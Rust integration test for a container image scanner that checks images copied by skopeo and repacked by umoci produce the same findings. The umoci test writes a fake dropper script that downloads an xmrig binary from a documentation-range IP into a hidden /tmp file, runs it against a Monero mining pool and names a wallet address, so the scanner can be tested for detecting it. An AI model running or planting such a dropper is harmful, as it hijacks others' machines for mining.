//! Images written by tools we did not write: skopeo copies the demo image out
//! of a real registry into a docker-archive, an oci-archive and an OCI layout;
//! umoci unpacks that layout and repacks it with a file deleted (its own
//! whiteout) and one added. Each is scanned and judged as the registry's copy
//! is: their layouts and compression are theirs, the findings must not be.

use std::collections::BTreeSet;
use std::fs;
use std::process::Command as Process;

use minehound_testdata::registry::{Auth, RegistryProcess, push_image};

use super::*;

/// What a finding says about the image, whatever container format carried it:
/// rule, severity, file, status, layer index and the file's hash. (Layer
/// digests differ: skopeo's docker-archive stores layers uncompressed.)
fn judged(report: &Value) -> BTreeSet<String> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            format!(
                "{} {} {} {} layer {} {}",
                f["rule"], f["severity"], f["path"], f["status"], f["layer"]["index"], f["sha256"]
            )
        })
        .collect()
}

fn run(tool: &str, args: &[&str]) {
    let output = Process::new(tool).args(args).output().unwrap_or_else(|e| {
        panic!("{tool}: {e} (apt-get install skopeo umoci)");
    });
    assert!(
        output.status.success(),
        "{tool} {args:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
}

/// The demo image pushed to a real registry, then copied out by skopeo.
struct Copies {
    _dir: tempfile::TempDir,
    _registry: RegistryProcess,
    root: std::path::PathBuf,
    reference: String,
}

fn copies() -> Copies {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().to_path_buf();
    let registry =
        RegistryProcess::start(&root.join("work"), &root.join("storage"), None, &Auth::None)
            .unwrap();
    push_image(&registry.host, "demo/app", "1.0", &demo_image().build()).unwrap();
    let reference = format!("{}/demo/app:1.0", registry.host);
    let source = format!("docker://{reference}");
    for destination in [
        format!(
            "docker-archive:{}:demo/app:1.0",
            root.join("docker.tar").display()
        ),
        format!("oci-archive:{}:1.0", root.join("oci.tar").display()),
        format!("oci:{}:1.0", root.join("layout").display()),
    ] {
        run(
            "skopeo",
            &[
                "--insecure-policy",
                "copy",
                "--quiet",
                "--src-tls-verify=false",
                &source,
                &destination,
            ],
        );
    }
    Copies {
        _dir: dir,
        _registry: registry,
        root,
        reference,
    }
}

/// One registry for both tools (a registry per test races for ports).
#[test]
fn images_written_by_skopeo_and_umoci_are_judged_like_the_registry_copy() {
    let copies = copies();
    skopeo_copies_are_judged_like_the_registry_copy(&copies);
    a_layout_repacked_by_umoci_reports_its_whiteout_and_its_new_layer(&copies);
}

fn skopeo_copies_are_judged_like_the_registry_copy(copies: &Copies) {
    let pulled = scan_json(&["scan", "-q", "-f", "json", &copies.reference], None, 1);
    let expected = judged(&pulled);
    // The demo's config, its deleted dropper and the rest: all there.
    assert!(expected.len() >= 5, "{expected:#?}");
    assert!(
        expected
            .iter()
            .any(|f| f.contains(DEMO_DROPPER_PATH) && f.contains("\"deleted\"")),
        "{expected:#?}"
    );
    let root = &copies.root;
    for target in [
        format!("docker-archive:{}", root.join("docker.tar").display()),
        format!("oci-archive:{}", root.join("oci.tar").display()),
        format!("oci:{}:1.0", root.join("layout").display()),
    ] {
        let report = scan_json(&["scan", "-q", "-f", "json", &target], None, 1);
        assert_eq!(judged(&report), expected, "{target}");
        assert_eq!(
            report["stats"]["layers"], pulled["stats"]["layers"],
            "{target}"
        );
        assert_eq!(
            report["stats"]["files_scanned"], pulled["stats"]["files_scanned"],
            "{target}"
        );
        assert_eq!(report["skipped"], serde_json::json!([]), "{target}");
    }
}

fn a_layout_repacked_by_umoci_reports_its_whiteout_and_its_new_layer(copies: &Copies) {
    let layout = copies.root.join("layout");
    let bundle = copies.root.join("bundle");
    let image = |tag: &str| format!("{}:{tag}", layout.display());
    run(
        "umoci",
        &[
            "unpack",
            "--rootless",
            "--image",
            &image("1.0"),
            bundle.to_str().unwrap(),
        ],
    );
    // Remove the miner config (umoci writes a whiteout for it) and add a
    // dropper elsewhere, then repack as a new tag.
    let rootfs = bundle.join("rootfs");
    fs::remove_file(rootfs.join(DEMO_CONFIG_PATH.trim_start_matches('/'))).unwrap();
    let dropper = "/usr/bin/update-helper";
    let script = "#!/bin/sh\ncurl -s http://203.0.113.9/xmrig -o /tmp/.x && chmod +x /tmp/.x\n\
                  /tmp/.x -o pool.supportxmr.com:443 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD --donate-level 0 -B\n";
    let added = rootfs.join(dropper.trim_start_matches('/'));
    fs::create_dir_all(added.parent().unwrap()).unwrap();
    fs::write(&added, script).unwrap();
    run(
        "umoci",
        &[
            "repack",
            "--image",
            &image("1.1"),
            "--history.created_by",
            "umoci repack: config removed, helper added",
            bundle.to_str().unwrap(),
        ],
    );

    let before = scan_json(
        &["scan", "-q", "-f", "json", &format!("oci:{}", image("1.0"))],
        None,
        1,
    );
    let after = scan_json(
        &["scan", "-q", "-f", "json", &format!("oci:{}", image("1.1"))],
        None,
        1,
    );
    let layers_before = before["stats"]["layers"].as_u64().unwrap();
    assert_eq!(
        after["stats"]["layers"].as_u64().unwrap(),
        layers_before + 1
    );
    let findings = after["findings"].as_array().unwrap();
    let config: Vec<&Value> = findings
        .iter()
        .filter(|f| f["path"] == DEMO_CONFIG_PATH)
        .collect();
    assert!(!config.is_empty(), "{findings:#?}");
    for f in &config {
        assert_eq!(f["status"], "deleted", "umoci's whiteout: {f:#}");
    }
    let new: Vec<&Value> = findings.iter().filter(|f| f["path"] == dropper).collect();
    assert!(!new.is_empty(), "the added dropper: {findings:#?}");
    for f in &new {
        assert_eq!(f["status"], "present", "{f:#}");
        assert_eq!(f["layer"]["index"], layers_before, "{f:#}");
        assert_eq!(
            f["layer"]["created_by"], "umoci repack: config removed, helper added",
            "{f:#}"
        );
    }
    // Everything else is judged as before.
    let unchanged = |r: &Value| -> BTreeSet<String> {
        judged(r)
            .into_iter()
            .filter(|f| !f.contains(DEMO_CONFIG_PATH) && !f.contains(dropper))
            .collect()
    };
    assert_eq!(unchanged(&after), unchanged(&before));
}
